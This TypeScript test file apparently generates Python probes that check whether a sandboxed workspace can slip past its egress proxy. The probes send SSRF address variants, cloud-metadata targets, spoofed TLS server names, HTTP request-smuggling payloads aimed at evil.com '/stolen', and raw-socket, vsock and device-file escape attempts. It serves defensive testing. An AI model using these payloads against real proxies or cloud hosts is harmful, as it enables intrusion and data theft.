/**
 * What is tried from inside the workspace, as Python programs. Each prints how much it tried and what of it got through; what arrived at the
 * host is counted there.
 *
 *   attempts   to reach what is not allowed: names that only look like the allowed one, addresses in every spelling, requests and TLS hellos
 *              that can be read in two ways; each by CONNECT, by SOCKS5, as a plain proxy request and straight
 *   channels   ways out beside that: datagrams, raw packets, devices, other kinds of socket
 */
import { clientHello } from '../../actors/egress/testing/client-hello.ts'

/** What the session may reach. `port` serves a page, `echoPort` sends back what it is sent; `own`: addresses of the host itself. */
export type Reachable = { allowed: string; port: number; echoPort: number; own: readonly string[]; inside: readonly string[] }

/** Hellos for another server than `a.example`, or for one nobody can tell. */
const hellos = (allowed: string): Record<string, Buffer> => ({
  'another name': clientHello({ names: ['evil.example'] }),
  'a longer name': clientHello({ names: [`${allowed}.evil.example`] }),
  'a name with NUL': clientHello({ names: [`evil.example\0.${allowed}`] }),
  'two names': clientHello({ names: [allowed, 'evil.example'] }),
  'no name': clientHello(),
  'an empty list of names': clientHello({ names: [] }),
  'the right name, and an encrypted one': clientHello({ names: [allowed], extra: [[0xfe0d, Buffer.alloc(60)]] }),
  'another name over many records': clientHello({ names: ['evil.example'], perRecord: 7 }),
  'another name, and record version 4': clientHello({ names: ['evil.example'], recordMinor: 4 }),
  'another name, with data after it': clientHello({ names: ['evil.example'], trailing: Buffer.from([0x14, 3, 3, 0, 1, 1]) }),
})

/** Whatever answers beside what the session may reach is a way round. */
export function attempts({ allowed, port, echoPort, own, inside }: Reachable): string {
  const hex = Object.fromEntries(Object.entries(hellos(allowed)).map(([what, bytes]) => [what, bytes.toString('hex')]))
  return `
import socket, json
from concurrent.futures import ThreadPoolExecutor
ALLOWED, PORT, ECHO = ${JSON.stringify(allowed)}, ${port}, ${echoPort}
OWN = [a.encode() for a in ${JSON.stringify(own)}]
INSIDE = ${JSON.stringify(inside)}
HELLOS = ${JSON.stringify(hex)}
PROXY = ("127.0.0.1", 1080)
tries = []
def attempt(what, act, marker=b"the page", times=1): tries.append((what, act, marker, times))
def answered(one):
    what, act, marker, times = one
    try:
        return what if act().count(marker) >= times else None
    except (OSError, UnicodeError, ValueError):
        return None
def talk(s, data):
    s.settimeout(10)
    s.sendall(data)
    got = b""
    try:
        while len(got) < 65536:
            more = s.recv(65536)
            if not more: break
            got += more
    except OSError:
        pass
    s.close()
    return got
def request(host, extra=b"", path=b"/stolen", method=b"GET"):
    return method + b" " + path + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n" + extra + b"Connection: close\\r\\n\\r\\n"
def connect(authority, inner):
    def act():
        s = socket.create_connection(PROXY, 10)
        s.settimeout(10)
        s.sendall(b"CONNECT " + authority + b" HTTP/1.1\\r\\nHost: " + authority + b"\\r\\n\\r\\n")
        head = s.recv(65536)
        if b" 200 " not in head.split(b"\\r\\n")[0]:
            s.close()
            return b""
        return talk(s, inner)
    return act
def socks(kind, address, port, inner):
    def act():
        s = socket.create_connection(PROXY, 10)
        s.settimeout(10)
        s.sendall(b"\\x05\\x01\\x00")
        if s.recv(2) != b"\\x05\\x00": return b""
        s.sendall(b"\\x05\\x01\\x00" + bytes([kind]) + address + port.to_bytes(2, "big"))
        if s.recv(10)[1:2] != b"\\x00":
            s.close()
            return b""
        return talk(s, inner)
    return act
def plain(target, host):
    return lambda: talk(socket.create_connection(PROXY, 10), b"GET " + target + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n")
def straight(host, inner, port=PORT):
    return lambda: talk(socket.create_connection((host, port), 10), inner)
def spoken(data):
    return lambda: talk(socket.create_connection(PROXY, 10), data)

A = ALLOWED.encode()
names = [b"evil" + A, A + b".evil.com", b"x." + A, A.split(b".", 1)[1], b"." + A, A + b"..", b"-" + A, A + b"\\0.evil.com", b"evil.com\\0." + A,
         b"a" * 64 + b"." + A, b"a." * 130 + A, b"_." + A, b"user@" + A, A + b"@evil.com", b"evil.com#" + A, b"evil.com\\\\." + A, b"evil.com%2e" + A, A + b"%00", b"localhost", b"*", b"*." + A,
         A + b"\\t.evil.com", A + b"\\\\@evil.com", "ⓐ.example".encode(), "a\u00ad.example".encode(), "a。example".encode(), "ａ.example".encode(),
         b"%61.example", b"xn--a-.example", b"127.0.0.1%x." + A, b"[::ffff:1.2.3.4%x." + A + b"]"]
addresses = [b"127.0.0.1", b"127.1", b"2130706433", b"0x7f000001", b"0177.0.0.1", b"0x7f.1", b"0", b"0.0.0.0", b"00000127.0.0.1", b"127.0.0.1.", b"10.0.0.1",
             b"172.16.0.1", b"192.168.0.1", b"100.64.0.1", b"169.254.169.254", b"192.0.0.1", b"198.18.0.1", b"224.0.0.1", b"240.0.0.1", b"255.255.255.255", b"256.1.1.1",
             b"1.2.3.4.5", b"[::1]", b"[::]", b"[::ffff:127.0.0.1]", b"[::127.0.0.1]", b"[64:ff9b::7f00:1]", b"[64:ff9b:1::7f00:1]", b"[2002:7f00:1::]", b"[2001::1]",
             b"[fe80::1]", b"[fe80::1%lo]", b"[fec0::1]", b"[fd00::1]", b"[fd00:ec2::254]", b"[ff02::1]", b"168.63.129.16", b"100.100.100.200",
             b"0x", "①②⑦.⓪.⓪.①".encode(), "127。0。0。1".encode(), b"[::ffff:7f00:1]", b"[::ffff:0:127.0.0.1]", b"[::ffff:0:7f00:1]", b"192.0.0.192",
             b"[fd20:ce::254]", b"[fd00:c1::a9fe:a9fe]", b"[fd00:42::42]", b"[fd00:a9fe:a9fe::1]", b"[fd00:100::100:200]"]
P = str(PORT).encode()
for host in names + addresses:
    attempt("connect " + repr(host), connect(host + b":" + P, request(host + b":" + P)))
    if len(host) < 256: attempt("socks " + repr(host), socks(3, bytes([len(host)]) + host, PORT, request(A + b":" + P)))
    attempt("plain " + repr(host), plain(b"http://" + host + b":" + P + b"/stolen", host + b":" + P))
# This machine's own addresses: two stand for however many it has, so that the count is the same everywhere.
for host in (OWN * 2)[:2]: attempt("own address " + repr(host), connect(host + b":" + P, request(host + b":" + P)))
# What any program does, without a proxy: names by the resolver, addresses as they are; names that policy allows and that lead inside.
for host in names[:3] + [b"10.0.0.1", b"172.16.0.1", b"192.168.0.1", b"100.64.0.1", b"169.254.169.254", b"192.0.0.192", b"168.63.129.16", b"100.100.100.200",
                         b"fd00:ec2::254", b"fe80::1%lo", b"64:ff9b::7f00:1", b"2002:7f00:1::"]:
    attempt("straight to " + repr(host), straight(host.decode(), request(host + b":" + P)))
for host in INSIDE:
    attempt("leads inside: " + host, straight(host, request(host.encode() + b":" + P)))
    attempt("leads inside, by CONNECT: " + host, connect(host.encode() + b":" + P, request(host.encode() + b":" + P)))
# The proxy answers for itself to nobody, and a refusal is no way in.
for path in (b"/", b"/_sbx/browser-open", b"/services/forwarder/expose", b"/json/version", b"http://127.0.0.1:1080/"):
    attempt("the proxy's own " + repr(path), spoken(b"GET " + path + b" HTTP/1.1\\r\\nHost: 127.0.0.1:1080\\r\\n\\r\\n"), b" 200 ")
attempt("behind a refusal", spoken(b"CONNECT evil.com:" + P + b" HTTP/1.1\\r\\n\\r\\n" + request(A + b":" + P)))
attempt("a CONNECT in a CONNECT", connect(A + b":" + P, b"CONNECT evil.com:" + P + b" HTTP/1.1\\r\\n\\r\\n" + request(b"evil.com:" + P)))
for raw in (b"\\x7f\\0\\0\\1", b"\\0\\0\\0\\0", b"\\x0a\\0\\0\\1", b"\\xa9\\xfe\\xa9\\xfe"):
    attempt("socks v4 " + repr(raw), socks(1, raw, PORT, request(A)))
for raw in (b"\\0" * 15 + b"\\1", b"\\0" * 10 + b"\\xff\\xff\\x7f\\0\\0\\1", b"\\0\\x64\\xff\\x9b" + b"\\0" * 8 + b"\\x7f\\0\\0\\1"):
    attempt("socks v6 " + repr(raw), socks(4, raw, PORT, request(A)))
for authority in (A + b":0", A + b":65536", A + b":" + P + b"abc", A + b":" + P + b":1", A + b"\\r\\n\\r\\nCONNECT evil.com:" + P, A, b""):
    attempt("authority " + repr(authority), connect(authority, request(A)))
# Inside what is allowed: another host's request, or one that can be read in two ways. Sent straight and by CONNECT.
E = b"evil.example:" + P
H = A + b":" + P
shapes = {
    "another host": request(E),
    "two hosts": request(H, b"Host: " + E + b"\\r\\n"),
    "no host": b"GET /stolen HTTP/1.1\\r\\n\\r\\n",
    "absolute target": request(H, path=b"http://" + E + b"/stolen"),
    "two framings": request(H, b"Transfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n", method=b"POST") + b"0\\r\\n\\r\\n",
    "two lengths": request(H, b"Content-Length: 4\\r\\nContent-Length: 5\\r\\n", method=b"POST") + b"abcde",
    "a folded field": request(H, b"Transfer-Encoding:\\r\\n chunked\\r\\n", method=b"POST") + b"0\\r\\n\\r\\n",
    "a bare CR": request(H, b"X: a\\rHost: " + E + b"\\r\\n"),
    "a bare LF": b"GET /stolen HTTP/1.1\\nHost: " + H + b"\\n\\n",
    "a blank before the colon": request(H, b"Transfer-Encoding : chunked\\r\\n"),
    "TRACE": request(H, method=b"TRACE"),
    "a web socket": request(H, b"Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n"),
    "HTTP/2 in the clear": request(H, b"Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n"),
    "CONNECT inside": b"CONNECT " + E + b" HTTP/1.1\\r\\nHost: " + E + b"\\r\\n\\r\\n" + request(E),
    "an oversized head": request(H, b"X: " + b"x" * 70000 + b"\\r\\n"),
    "a TLS hello for another": bytes.fromhex("160304") + b"\\x00\\x05" + b"\\x01\\0\\0\\x01\\0",
}
for what, inner in shapes.items():
    attempt("straight: " + what, straight(ALLOWED, inner))
    attempt("connect: " + what, connect(H, inner))
# The first of two is answered, and nothing else.
second = b"GET /first HTTP/1.1\\r\\nHost: " + H + b"\\r\\n\\r\\n" + request(E)
attempt("straight: a second request", straight(ALLOWED, second), times=2)
attempt("connect: a second request", connect(H, second), times=2)
# Where everything that arrives comes back: of these hellos nothing may arrive.
for what, text in HELLOS.items():
    inner = bytes.fromhex(text)
    attempt("straight, TLS: " + what, straight(ALLOWED, inner, ECHO), b"\\x16\\x03")
    attempt("connect, TLS: " + what, connect(A + b":" + str(ECHO).encode(), inner), b"\\x16\\x03")
    attempt("socks, TLS: " + what, socks(3, bytes([len(A)]) + A, ECHO, inner), b"\\x16\\x03")
# Side by side: what takes long is the way through the machine's ports.
with ThreadPoolExecutor(16) as pool: through = [what for what in pool.map(answered, tries) if what is not None]
print(json.dumps({"tried": len(tries), "through": through}))
`
}

/** `udp` and `tcp`: ports on which the host hears whoever sends to one of its `own` addresses. Run by a session that may reach nothing. */
export function channels({ udp, tcp, own }: { udp: number; tcp: number; own: readonly string[] }): string {
  return `
import ctypes, os, socket
OWN = (${JSON.stringify(own)} * 2)[:2]
libc = ctypes.CDLL(None, use_errno=True)
tried, out = 0, []
def attempt(name, act):
    global tried
    tried += 1
    try:
        act()
        out.append(name)
    except (OSError, AttributeError, ValueError):
        pass
# Every address is the session's own there, so one in 28,000 gets the port it sends to for itself, and hears itself.
def elsewhere(s):
    if s.getsockname()[:2] == s.getpeername()[:2]: raise OSError("itself")
def udp(address, port, family=socket.AF_INET):
    def act():
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.connect((address, port))
        elsewhere(s)
        s.send(b"x" * 40)
        s.send(b"x" * 40)
        s.recv(100)
    return act
def tcp(address, port, family=socket.AF_INET):
    def act():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect((address, port))
        elsewhere(s)
        s.sendall(b"x" * 40)
        if not s.recv(100): raise OSError
    return act
for port in (53, 67, 69, 123, 137, 161, 443, 514, 853, 1900, 3478, 4789, 5353, 5355, 51820):
    attempt(f"udp {port}", udp("198.51.100.53", port))
attempt("multicast dns", udp("224.0.0.251", 5353))
attempt("broadcast", udp("255.255.255.255", 9))
for address in OWN:
    attempt(f"udp to the host at {address}", udp(address, ${udp}))
    attempt(f"tcp to the host at {address}", tcp(address, ${tcp}))
attempt("udp over IPv6", udp("2001:db8::53", 53, socket.AF_INET6))
attempt("metadata", tcp("169.254.169.254", 80))
for port in (21, 22, 25, 53, 80, 143, 443, 853, 6379, 8080):
    attempt(f"tcp {port}", tcp("198.51.100.53", port))
attempt("tcp over IPv6", tcp("2001:db8::53", 443, socket.AF_INET6))
for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 6), (socket.SOCK_RAW, 255)):
    attempt(f"icmp or raw {kind} {proto}", lambda: socket.socket(socket.AF_INET, kind, proto).sendto(b"x" * 40, ("198.51.100.53", 0)))
for to, message in (("2001:db8::53", b"\\x80"), ("ff02::1", b"\\x86"), ("ff02::2", b"\\x85")):
    attempt(f"icmp over IPv6 to {to}", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).sendto(message + b"\\0" * 15, (to, 0)))
def packet():
    s = socket.socket(17, socket.SOCK_RAW, 3)
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    if not others: raise OSError("no interface")
    for name in others:
        s.bind((name, 0))
        s.send(b"\\xff" * 60)
attempt("packet", packet)
for cid in (0, 1, 2, 3):
    for port in (1, 22, 1024, 51234):
        attempt(f"vsock to {cid}:{port}", lambda: socket.socket(40, socket.SOCK_STREAM).connect((cid, port)))
def mount(options):
    def act():
        os.makedirs("/tmp/m", exist_ok=True)
        if libc.mount(b"host", b"/tmp/m", b"9p", 0, options) != 0: raise OSError(ctypes.get_errno(), "mount")
    return act
for options in (b"trans=virtio", b"trans=tcp,port=564", b"trans=unix"): attempt("9p by " + options.decode(), mount(options))
# The proxy every session has is open to it and leads nowhere.
def proxied(data):
    def act():
        s = socket.create_connection(("127.0.0.1", 1080), 5)
        s.settimeout(10)
        s.sendall(data)
        if b" 200 " not in s.recv(100): raise OSError
    return act
for host in ("a.example:80", "198.51.100.53:53"):
    attempt("proxy to " + host, proxied(b"CONNECT " + host.encode() + b" HTTP/1.1\\r\\n\\r\\n"))
attempt("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
# Root of the guest owns these; what it could write there is the host's to disbelieve (link.test.ts).
for path in [] if os.getuid() == 0 else ["/dev/vport1p0", "/dev/vport1p1", "/dev/vport1p2", "/dev/vport1p3", "/dev/vport1p4", "/dev/hvc0", "/dev/ttyS0", "/dev/mem", "/dev/port", "/dev/vda", "/dev/vdb", "/dev/fuse", "/dev/vhost-vsock", "/sys/firmware/qemu_fw_cfg/by_name"]:
    attempt(path, lambda: os.open(path, os.O_RDWR if path.startswith("/dev") else os.O_RDONLY))
# Each port of the machine to the host has one who holds it: its agent.
def port_of_machine(path):
    def act():
        held = os.open(path, os.O_WRONLY)
        os.write(held, b"x" * 40)
        os.close(held)
    return act
if os.getuid() == 0:
    ports = sorted("/dev/" + name for name in os.listdir("/dev") if name.startswith("vport"))
    counted = tried
    for path in ports: attempt(path, port_of_machine(path))
    tried = counted
print(tried, out)
`
}
